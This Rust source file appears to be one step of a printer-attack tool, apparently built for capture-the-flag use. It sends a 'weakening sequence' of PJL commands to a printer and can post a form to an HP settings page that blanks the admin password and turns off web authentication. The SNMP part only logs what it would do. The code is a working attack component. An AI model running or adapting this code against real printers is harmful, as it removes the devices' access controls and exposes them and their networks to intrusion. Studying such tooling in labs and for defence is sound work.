//! Protocol Weakener.
//!
//! Up to three independent sub-actions, each swallowing its own failures:
//!
//! 1. **SNMP**: logged intent only. No SNMP SET is ever sent, the
//!    protection objects are not touched.
//! 2. **Printing port**: the [`pjl::WEAKENING_SEQUENCE`], one connection per
//!    command.
//! 3. **Web** (opt-in): empty admin password posted to [`SETTINGS_PATH`].

use async_trait::async_trait;
use ctfprint_common::config::{Config, Pacing};
use ctfprint_common::network::surface::Surface;
use ctfprint_common::outcome::{Outcome, StepResult};
use tokio::time::sleep;
use tracing::{debug, error, info, warn};

use super::{RunState, Step, StepContext, StepReport};
use crate::network::{PrinterSurfaces, WebAuth, pjl};

pub const SETTINGS_PATH: &str = "/hp/device/set_config.html";

pub const OPEN_AUTH_FORM: [(&str, &str); 3] = [
    ("AdminPassword", ""),
    ("ConfirmPassword", ""),
    ("AuthenticationRequired", "false"),
];

pub struct ProtocolEnablementStep;

#[async_trait]
impl Step for ProtocolEnablementStep {
    fn name(&self) -> &'static str {
        "Protocol enablement"
    }

    async fn run(&self, ctx: &StepContext<'_>, state: RunState) -> StepReport {
        let result = enable_vulnerable_protocols(ctx.surfaces, ctx.config, state).await;
        StepReport::unchanged(state, result)
    }
}

pub async fn enable_vulnerable_protocols(
    surfaces: &dyn PrinterSurfaces,
    config: &Config,
    state: RunState,
) -> StepResult {
    info!("Enabling vulnerable network protocols...");

    let mut enabled: Vec<&str> = Vec::new();

    if state.status.is_reachable(Surface::Snmp) {
        enabled.push(announce_snmp_changes());
    }

    enabled.push(send_weakening_sequence(surfaces, config.pacing).await);

    if config.disable_web_auth && remove_web_password(surfaces, state.auth).await {
        enabled.push("Web");
    }

    if enabled.is_empty() {
        return Ok(Outcome::Degraded("no protocol could be enabled".to_string()));
    }

    let joined = enabled.join(", ");
    info!("Enabled protocols: {joined}");
    Ok(Outcome::Completed(format!("enabled protocols: {joined}")))
}

fn announce_snmp_changes() -> &'static str {
    info!("Configuring protocols via SNMP...");
    info!("  Protection objects are model specific; no SNMP SET is issued");
    "SNMP"
}

/// Sends every command of the sequence. Failures are logged and skipped.
async fn send_weakening_sequence(surfaces: &dyn PrinterSurfaces, pacing: Pacing) -> &'static str {
    let last = pjl::WEAKENING_SEQUENCE.len() - 1;

    for (idx, command) in pjl::WEAKENING_SEQUENCE.iter().enumerate() {
        match surfaces.pjl(command).await {
            Ok(reply) if reply.trim().is_empty() => debug!("'{command}': no reply"),
            Ok(reply) => debug!("'{command}': {}", reply.trim()),
            Err(e) => warn!("PJL command '{command}' failed: {e}"),
        }

        if idx != last && !pacing.between_commands.is_zero() {
            sleep(pacing.between_commands).await;
        }
    }

    info!("PJL commands sent");
    "PJL"
}

async fn remove_web_password(surfaces: &dyn PrinterSurfaces, auth: WebAuth) -> bool {
    info!("Disabling web authentication...");

    match surfaces.http_post_form(SETTINGS_PATH, &OPEN_AUTH_FORM, auth).await {
        Ok(code) => {
            info!("Web authentication disable attempted (HTTP {code})");
            warn!("Manual verification recommended via web browser");
            true
        }
        Err(e) => {
            error!("Could not disable web auth: {e}");
            info!("You may need to do this manually via the web interface");
            false
        }
    }
}
